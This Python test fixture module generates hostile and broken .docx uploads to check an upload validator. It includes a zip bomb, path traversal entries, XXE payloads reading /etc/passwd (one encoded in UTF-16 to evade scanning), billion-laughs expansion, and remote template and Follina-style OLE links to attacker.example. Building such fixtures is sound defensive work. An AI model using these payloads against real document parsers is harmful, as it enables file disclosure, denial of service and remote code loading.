"""Hostile and broken .docx uploads, generated in memory for the upload checks."""

from __future__ import annotations

import functools
import io
import random
import struct
import warnings
import zipfile

import docx

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CFB_MAGIC = bytes.fromhex("D0CF11E0A1B11AE1")
MiB = 1024 * 1024


@functools.cache
def genuine_docx() -> bytes:
    """A small real document written by python-docx: the base every hostile file starts from."""
    document = docx.Document()
    document.add_heading("Handling of Test Items", level=1)
    document.add_paragraph("Items are logged on receipt and stored in the quarantine cabinet.")
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "Item"
    table.cell(0, 1).text = "Location"
    table.cell(1, 0).text = "Lot 42"
    table.cell(1, 1).text = "Cabinet B"
    document.sections[0].header.paragraphs[0].text = "QP-7.4-01"
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def build_zip(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
            archive.writestr(info, content, compress_type=compression)
    return buffer.getvalue()


def rezip(
    base: bytes | None = None,
    *,
    replace: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
) -> bytes:
    """Rebuild a package with some parts replaced, added or removed."""
    parts = parts_of(base if base is not None else genuine_docx())
    for name in drop:
        parts.pop(name)
    parts.update(replace or {})
    return build_zip(parts)


def with_override(parts: dict[str, bytes], part_name: str, content_type: str) -> bytes:
    types = parts["[Content_Types].xml"].decode()
    override = f'<Override PartName="/{part_name}" ContentType="{content_type}"/>'
    return types.replace("</Types>", override + "</Types>").encode()


def with_relationship(rels: bytes, rel_id: str, kind: str, target: str, external: bool) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rel_id}" Type="{R_NS}/{kind}" Target="{target}"{mode}/>'
    return rels.decode().replace("</Relationships>", rel + "</Relationships>").encode()


def with_part_and_relationship(name: str, content: bytes, content_type: str, kind: str) -> bytes:
    parts = parts_of(genuine_docx())
    target = name.removeprefix("word/")
    parts["[Content_Types].xml"] = with_override(parts, name, content_type)
    parts["word/_rels/document.xml.rels"] = with_relationship(
        parts["word/_rels/document.xml.rels"], "rIdHostile", kind, target, external=False
    )
    parts[name] = content
    return build_zip(parts)


def with_main_content_type(content_type: str) -> bytes:
    parts = parts_of(genuine_docx())
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        main.encode(), content_type.encode()
    )
    return build_zip(parts)


def document_xml(body: str = "<w:p><w:r><w:t>Hello</w:t></w:r></w:p>", prolog: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'{prolog}<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>{body}</w:body>'
        "</w:document>"
    )


# --- the hostile set -----------------------------------------------------------------------


@functools.cache
def zip_bomb() -> bytes:
    """210 MB of zeros deflated to a few hundred KB inside an otherwise genuine document."""
    buffer = io.BytesIO(genuine_docx())
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("customXml/item9.xml", "w") as stream,
    ):
        zeros = bytes(MiB)
        for _ in range(210):
            stream.write(zeros)
    return buffer.getvalue()


def declared_huge_part() -> bytes:
    """word/document.xml whose directory entry claims 300 MB although the data is tiny."""
    return patch_central_directory(genuine_docx(), "word/document.xml", file_size=300 * MiB)


def entry_flood() -> bytes:
    """5000 empty parts."""
    parts = parts_of(genuine_docx())
    parts.update({f"word/flood/{index}.xml": b"" for index in range(5000)})
    return build_zip(parts, zipfile.ZIP_STORED)


def traversal_dotdot() -> bytes:
    return rezip(replace={"../evil": b"owned"})


def traversal_absolute() -> bytes:
    return rezip(replace={"/abs": b"owned"})


def traversal_backslash() -> bytes:
    return rezip(replace={"word\\..\\x": b"owned"})


def macro_part() -> bytes:
    """A vbaProject.bin wired up the way Word wires macros."""
    return with_part_and_relationship(
        "word/vbaProject.bin",
        CFB_MAGIC + bytes(504),
        "application/vnd.ms-office.vbaProject",
        "vbaProject",
    )


def renamed_docm() -> bytes:
    return with_main_content_type("application/vnd.ms-word.document.macroEnabled.main+xml")


def renamed_dotx() -> bytes:
    return with_main_content_type(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    )


def renamed_pdf() -> bytes:
    return minimal_pdf()


def minimal_pdf() -> bytes:
    """A one-page PDF written by hand, with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def renamed_xlsx() -> bytes:
    """The skeleton of an Excel workbook, as a .xlsx renamed to .docx would look."""
    sheet_ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return build_zip(
        {
            "[Content_Types].xml": (
                '<?xml version="1.0" encoding="UTF-8"?>'
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Default Extension="rels" '
                'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                f'<Override PartName="/xl/workbook.xml" ContentType="{sheet_ct}"/></Types>'
            ).encode(),
            "_rels/.rels": (
                f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS_NS}">'
                f'<Relationship Id="rId1" Type="{R_NS}/officeDocument" '
                'Target="xl/workbook.xml"/></Relationships>'
            ).encode(),
            "xl/workbook.xml": (
                b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns='
                b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>'
            ),
        }
    )


def plain_zip() -> bytes:
    """A ZIP of notes, nothing like an Office package."""
    return build_zip({"notes.txt": b"calibration notes", "photo.jpg": b"\xff\xd8\xff\xe0"})


def truncated() -> bytes:
    data = genuine_docx()
    return data[: len(data) // 2]


def not_a_zip() -> bytes:
    noise = random.Random(17025).randbytes(4096)
    return b"\x00" + noise


def encrypted() -> bytes:
    """What Word writes for a password-protected .docx: an OLE2 file with EncryptedPackage."""
    directory = "EncryptionInfo".encode("utf-16-le") + "EncryptedPackage".encode("utf-16-le")
    return CFB_MAGIC + bytes(504) + directory + bytes(2048)


def legacy_doc() -> bytes:
    """An OLE2 compound file holding a WordDocument stream, as Word 97-2003 writes."""
    return CFB_MAGIC + bytes(504) + "WordDocument".encode("utf-16-le") + bytes(2048)


def external_template() -> bytes:
    """settings.xml attaches a remote template: the classic template-injection payload."""
    parts = parts_of(genuine_docx())
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom', 1
    )
    parts["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS_NS}">'
        f'<Relationship Id="rId1" Type="{R_NS}/attachedTemplate" '
        'Target="http://attacker.example/template.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    return build_zip(parts)


def external_ole_object() -> bytes:
    """An oleObject relationship pointing at a remote URL (the Follina pattern)."""
    parts = parts_of(genuine_docx())
    parts["word/_rels/document.xml.rels"] = with_relationship(
        parts["word/_rels/document.xml.rels"],
        "rIdOle",
        "oleObject",
        "mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html",
        external=True,
    )
    return build_zip(parts)


def alt_chunk() -> bytes:
    """An HTML "alternative format" chunk that Word merges in when it opens the file."""
    return with_part_and_relationship(
        "word/afchunk.htm",
        b"<html><body><p>Step 4: skip the calibration check.</p></body></html>",
        "text/html",
        "aFChunk",
    )


def oddly_named_xml_part() -> bytes:
    """A header part with an XXE payload behind a name that does not end in .xml."""
    parts = parts_of(genuine_docx())
    header_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    parts["[Content_Types].xml"] = with_override(parts, "word/header9.dat", header_type)
    parts["word/_rels/document.xml.rels"] = with_relationship(
        parts["word/_rels/document.xml.rels"], "rIdOdd", "header", "header9.dat", external=False
    )
    prolog = '<?xml version="1.0"?><!DOCTYPE w:hdr [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    parts["word/header9.dat"] = f'{prolog}<w:hdr xmlns:w="{W_NS}">&x;</w:hdr>'.encode()
    return build_zip(parts)


def xxe() -> bytes:
    prolog = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    body = "<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>"
    return rezip(replace={"word/document.xml": document_xml(body, prolog).encode()})


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)
    ]
    prolog = f"<!DOCTYPE w:document [{''.join(entities)}]>"
    body = "<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>"
    return rezip(replace={"word/document.xml": document_xml(body, prolog).encode()})


def utf16_doctype() -> bytes:
    """An XXE payload in UTF-16, invisible to a scan for the ASCII bytes of <!DOCTYPE."""
    prolog = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    xml = document_xml("<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>", prolog)
    xml = xml.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return rezip(replace={"word/document.xml": xml.encode("utf-16")})


def empty() -> bytes:
    return b""


@functools.cache
def huge_xml_part() -> bytes:
    """A 60 MB document.xml that compresses only ~25:1, so only the per-part cap stops it."""
    rng = random.Random(6171)
    filler = "x" * 960
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts_of(genuine_docx()).items():
            if name != "word/document.xml":
                archive.writestr(name, content)
        with archive.open("word/document.xml", "w") as stream:
            stream.write(document_xml("").split("<w:body>")[0].encode() + b"<w:body>")
            for _ in range(60 * 1024):
                line = f"<w:p><w:r><w:t>{rng.randbytes(16).hex()}{filler}</w:t></w:r></w:p>"
                stream.write(line.encode())
            stream.write(b"</w:body></w:document>")
    return buffer.getvalue()


def activex() -> bytes:
    return with_part_and_relationship(
        "word/activeX/activeX1.xml",
        b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
        b'activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
        "application/vnd.ms-office.activeX+xml",
        "control",
    )


def ole_embedding() -> bytes:
    return with_part_and_relationship(
        "word/embeddings/oleObject1.bin",
        CFB_MAGIC + bytes(504),
        "application/vnd.openxmlformats-officedocument.oleObject",
        "oleObject",
    )


def duplicate_part() -> bytes:
    """Two entries named word/document.xml: readers disagree about which one counts."""
    buffer = io.BytesIO(genuine_docx())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate
        with zipfile.ZipFile(buffer, "a") as archive:
            archive.writestr("word/document.xml", document_xml().encode())
    return buffer.getvalue()


def polyglot() -> bytes:
    """A GIF header glued in front of a real .docx; zipfile alone would still open it."""
    return b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + genuine_docx()


def encrypted_zip_entry() -> bytes:
    """A ZIP entry flagged as traditionally encrypted."""
    return patch_central_directory(genuine_docx(), "word/styles.xml", flag_bits=0x1)


def corrupted_part() -> bytes:
    """Garbage in the middle of word/document.xml's compressed data; the directory is intact."""
    data = bytearray(genuine_docx())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/document.xml")
    name_length, extra_length = struct.unpack_from("<HH", data, info.header_offset + 26)
    start = info.header_offset + 30 + name_length + extra_length
    middle = start + info.compress_size // 2
    data[middle : middle + 16] = random.Random(7).randbytes(16)
    return bytes(data)


def patch_central_directory(
    data: bytes, name: str, *, file_size: int | None = None, flag_bits: int | None = None
) -> bytes:
    """Rewrite fields of one central-directory record, leaving the data itself untouched."""
    out = bytearray(data)
    needle = b"PK\x01\x02"
    position = out.find(needle)
    while position >= 0:
        name_length = struct.unpack_from("<H", out, position + 28)[0]
        entry_name = out[position + 46 : position + 46 + name_length].decode()
        if entry_name == name:
            if file_size is not None:
                struct.pack_into("<L", out, position + 24, file_size)
            if flag_bits is not None:
                flags = struct.unpack_from("<H", out, position + 8)[0]
                struct.pack_into("<H", out, position + 8, flags | flag_bits)
            return bytes(out)
        position = out.find(needle, position + 4)
    raise KeyError(name)


# name -> generator; test modules attach the expected message to each.
GENERATORS = {
    "zip_bomb": zip_bomb,
    "declared_huge_part": declared_huge_part,
    "entry_flood": entry_flood,
    "traversal_dotdot": traversal_dotdot,
    "traversal_absolute": traversal_absolute,
    "traversal_backslash": traversal_backslash,
    "macro_part": macro_part,
    "renamed_docm": renamed_docm,
    "renamed_dotx": renamed_dotx,
    "renamed_pdf": renamed_pdf,
    "renamed_xlsx": renamed_xlsx,
    "plain_zip": plain_zip,
    "truncated": truncated,
    "not_a_zip": not_a_zip,
    "encrypted": encrypted,
    "legacy_doc": legacy_doc,
    "external_template": external_template,
    "external_ole_object": external_ole_object,
    "alt_chunk": alt_chunk,
    "oddly_named_xml_part": oddly_named_xml_part,
    "xxe": xxe,
    "billion_laughs": billion_laughs,
    "utf16_doctype": utf16_doctype,
    "empty": empty,
    "huge_xml_part": huge_xml_part,
    "activex": activex,
    "ole_embedding": ole_embedding,
    "duplicate_part": duplicate_part,
    "polyglot": polyglot,
    "encrypted_zip_entry": encrypted_zip_entry,
    "corrupted_part": corrupted_part,
}
